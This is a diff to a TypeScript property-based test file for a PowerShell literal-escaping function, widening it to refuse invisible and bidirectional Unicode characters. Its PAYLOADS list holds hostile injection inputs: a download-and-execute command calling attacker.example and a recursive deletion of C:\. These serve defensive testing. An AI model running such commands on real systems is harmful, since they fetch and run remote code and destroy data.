@@ -107,7 +107,7 @@ function argumentLiteral(script: string, parameter: string): Literal {
 
 const QUOTES = ['\u0027', '\u2018', '\u2019', '\u201A', '\u201B'];
 const SPECIAL = ['$', '`', ';', '|', '&', '$(', ')', '(', '{', '}', '\\', '"', '\u201C', '\u201D', '\u201E', '@', '#', '<#', ' '];
-const BREAKING = ['\n', '\r', '\r\n', '\0', '\t', '\x1b', '\x7f', '\x85', '\u2028', '\u2029'];
+const BREAKING = ['\n', '\r', '\r\n', '\0', '\t', '\x1b', '\x7f', '\x85', '\u2028', '\u2029', '\u202e', '\u200b', '\u2066'];
 const PAYLOADS = ['iex(irm(\u2019http://attacker.example/x\u2019))', "'; Remove-Item C:\\ -Recurse; '", '$(calc)', '${env:PATH}'];
 
 const piece = fc.oneof(
@@ -120,12 +120,15 @@ const piece = fc.oneof(
   { weight: 1, arbitrary: fc.integer({ min: 0, max: 0xffff }).map((unit) => String.fromCharCode(unit)) },
 );
 const hostileString = fc.array(piece, { maxLength: 24 }).map((pieces) => pieces.join(''));
-const hostileLine = hostileString.map((s) => s.replace(/[\u0000-\u001F\u007F-\u009F\u2028\u2029]/g, ''));
+const hostileLine = hostileString.map((s) => s.replace(/[\u0000-\u001F\u007F-\u009F\u2028\u2029\u200B-\u200F\u202A-\u202E\u2060-\u2064\u2066-\u2069\uFEFF]/g, ''));
 
-// A C0 or C1 control, DEL, or a line or paragraph separator: written out here, not taken from the product.
+// A C0 or C1 control, DEL, a line or paragraph separator, or an invisible or bidirectional format
+// character (Unicode's Cf characters that hide or reorder text): written out here, not taken from the product.
 const hasBreakingCharacter = (s: string): boolean => [...s].some((c) => {
   const code = c.codePointAt(0)!;
-  return code <= 0x1f || (code >= 0x7f && code <= 0x9f) || code === 0x2028 || code === 0x2029;
+  return code <= 0x1f || (code >= 0x7f && code <= 0x9f) || code === 0x2028 || code === 0x2029
+    || (code >= 0x200b && code <= 0x200f) || (code >= 0x202a && code <= 0x202e) || (code >= 0x2060 && code <= 0x2064)
+    || (code >= 0x2066 && code <= 0x2069) || code === 0xfeff;
 });
 
 // ---------------------------------------------------------------------------------------------
@@ -160,14 +163,15 @@ describe('powerShellLiteral: one literal, the value unchanged', () => {
     assert.notEqual(soleLiteralValue(`'${messageId}'`), messageId);
   });
 
-  it('refuses CR, LF, NUL, every other C0 control, DEL, C1 controls and the Unicode line separators', () => {
+  it('refuses CR, LF, NUL, every other C0 control, DEL, C1 controls, the Unicode line separators and invisible or bidi format characters', () => {
     const refused = [...Array.from({ length: 0x20 }, (_, i) => String.fromCharCode(i)), '\x7f',
-      ...Array.from({ length: 0x20 }, (_, i) => String.fromCharCode(0x80 + i)), '\u2028', '\u2029'];
+      ...Array.from({ length: 0x20 }, (_, i) => String.fromCharCode(0x80 + i)), '\u2028', '\u2029',
+      '\u200b', '\u200d', '\u200e', '\u200f', '\u202a', '\u202e', '\u2060', '\u2066', '\u2069', '\ufeff'];
     for (const c of refused) {
       assert.equal(powerShellLiteral(`a${c}b`), undefined, `U+${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
       assert.equal(powerShellLiteralContent(`<x${c}@y>`), undefined);
     }
-    for (const c of [' ', '~', '\u00a0', '\u00e9', '\u2027', '\u202a', '\ud83d\udce7']) assert.ok(powerShellLiteral(`a${c}b`), c);
+    for (const c of [' ', '~', '\u00a0', '\u00e9', '\u2027', '\u202f', '\ud83d\udce7']) assert.ok(powerShellLiteral(`a${c}b`), c);
   });
 });
 
